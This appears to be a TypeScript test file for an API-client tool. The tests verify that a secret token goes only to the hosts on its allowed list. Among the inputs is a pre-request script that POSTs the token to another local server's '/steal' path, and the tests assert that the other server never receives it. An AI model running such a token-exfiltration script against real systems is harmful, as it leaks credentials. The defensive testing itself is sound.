import type { EndpointDraft, EnvironmentView } from '@client/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, endpointDraft, startTargetServer, startTestApp, type TestApp } from './ui-server.test-support.js';

const SECRET = 'sk_live_only-for-the-api';
let app: TestApp;
/** The project's base URL: where the secret may go by default. */
let allowed: Awaited<ReturnType<typeof startTargetServer>>;
/** Another server, reached by the machine's other name: it must never see a request carrying the secret. */
let other: Awaited<ReturnType<typeof startTargetServer>>;
let otherOrigin = '';

beforeAll(async () => {
  app = await startTestApp({ sendTimeoutMs: 5000 });
  allowed = await startTargetServer();
  other = await startTargetServer();
  otherOrigin = other.origin.replace('127.0.0.1', 'localhost');
});
afterAll(async () => {
  await allowed.close();
  await other.close();
  await app.close();
});

async function projectWithSecret(): Promise<{ projectId: string; environmentId: string }> {
  const projectId = (await api(app, 'POST', '/api/projects', { name: `P${Math.random()}`, baseUrl: allowed.origin }))
    .json.id;
  const environmentId = (await api(app, 'POST', `/api/projects/${projectId}/environments`, { name: 'Local' })).json.id;
  await api(app, 'PUT', `/api/environments/${environmentId}/variables`, {
    variables: [{ key: 'token', value: SECRET, secret: true }],
  });
  return { projectId, environmentId };
}

function send(projectId: string, environmentId: string, extra: Partial<EndpointDraft>) {
  return api(app, 'POST', '/api/send', {
    requestId: crypto.randomUUID(),
    projectId,
    endpointId: null,
    environmentId,
    request: endpointDraft({ headers: [{ key: 'Authorization', value: 'Bearer {{token}}' }], ...extra }),
  });
}

async function environmentOf(projectId: string): Promise<EnvironmentView | undefined> {
  return (await api(app, 'GET', `/api/projects/${projectId}/environments`)).json.environments[0];
}

describe("a secret's allowed hosts, in the window", { timeout: 20_000 }, () => {
  it("start as the project's base URL host, and a Send there carries the secret", async () => {
    const { projectId, environmentId } = await projectWithSecret();
    const [token] = (await environmentOf(projectId))?.variables ?? [];
    expect(token).toEqual({ key: 'token', value: '', secret: true, allowedHosts: [new URL(allowed.origin).host] });
    const answer = await send(projectId, environmentId, { path: '/ok' });
    expect(answer.status).toBe(200);
    expect(allowed.requests.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  it('refuse a Send to another host, naming the secret and the host, and that server sees nothing', async () => {
    const { projectId, environmentId } = await projectWithSecret();
    const answer = await send(projectId, environmentId, { path: `${otherOrigin}/steal` });
    expect(answer.status).toBe(200);
    expect(answer.json).toMatchObject({ outcome: 'failed', historyId: null });
    expect(answer.json.message).toMatch(/^not sent: the secret \{\{token\}\} may be sent only to /);
    expect(answer.json.message).toContain(new URL(otherOrigin).host);
    expect(answer.text).not.toContain(SECRET);
    expect(other.requests).toEqual([]);
  });

  it("keep a pre-request script's pm.sendRequest from taking the secret elsewhere", async () => {
    const { projectId, environmentId } = await projectWithSecret();
    const answer = await send(projectId, environmentId, {
      path: '/with-script',
      scripts: {
        from: 'postman',
        preRequest: `pm.sendRequest({ url: '${otherOrigin}/steal', method: 'POST', body: { mode: 'raw', raw: pm.environment.get('token') } }, (error) => console.log(error ? String(error.message || error) : 'sent'));`,
        postResponse: '',
        tests: '',
      },
    });
    expect(answer.status).toBe(200);
    expect(JSON.stringify(answer.json)).toContain('{{token}}');
    expect(other.requests).toEqual([]);
  });

  it('are kept when the environment is saved again, and a host added to them lets the Send through', async () => {
    const { projectId, environmentId } = await projectWithSecret();
    const saved = await api(app, 'PUT', `/api/environments/${environmentId}/variables`, {
      variables: [
        { key: 'token', secret: true, allowedHosts: [new URL(allowed.origin).host, new URL(otherOrigin).host] },
      ],
    });
    expect(saved.status).toBe(200);
    await api(app, 'PUT', `/api/environments/${environmentId}/variables`, {
      variables: [{ key: 'token', secret: true }],
    });
    expect((await environmentOf(projectId))?.variables[0]?.allowedHosts).toEqual([
      new URL(allowed.origin).host,
      new URL(otherOrigin).host,
    ]);
    const answer = await send(projectId, environmentId, { path: `${otherOrigin}/now-allowed` });
    expect(answer.status).toBe(200);
    expect(other.requests.map((request) => request.url)).toEqual(['/now-allowed']);
  });

  it('refuse a list with something that is not a host, keeping the saved one', async () => {
    const { projectId, environmentId } = await projectWithSecret();
    const answer = await api(app, 'PUT', `/api/environments/${environmentId}/variables`, {
      variables: [{ key: 'token', secret: true, allowedHosts: ['evil.test/path'] }],
    });
    expect(answer.status).toBe(400);
    expect(answer.json.message).toContain('evil.test/path');
    expect((await environmentOf(projectId))?.variables[0]?.allowedHosts).toEqual([new URL(allowed.origin).host]);
  });
});
